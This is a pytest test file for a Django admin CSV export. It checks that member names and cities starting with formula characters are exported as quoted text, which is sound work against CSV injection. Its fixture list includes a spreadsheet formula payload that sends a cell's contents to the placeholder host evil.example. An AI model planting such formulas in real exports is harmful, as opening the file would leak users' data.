"""D4: the admin member CSV export never writes a cell a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.contrib.admin import helpers

from members.core.selectors.member_export import spreadsheet_safe
from tests.factories import MemberFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _export(client, members) -> list[dict]:
    response = client.post(
        "/admin/members/member/",
        {"action": "export_csv", "index": 0, helpers.ACTION_CHECKBOX_NAME: [m.pk for m in members]},
    )
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_formula_names_and_cities_are_exported_as_text(client, superuser):
    client.force_login(superuser)
    members = [
        MemberFactory(external_id=f"F{i}", name=formula, city=formula) for i, formula in enumerate(FORMULAS)
    ]

    rows = _export(client, members)

    assert [row["name"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["city"] for row in rows] == ["'" + formula for formula in FORMULAS]
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_ordinary_values_are_unchanged():
    for value in ["Ada Lovelace", "O'Brien", "1+1", "Zoë", "", "a=b"]:
        assert spreadsheet_safe(value) == value
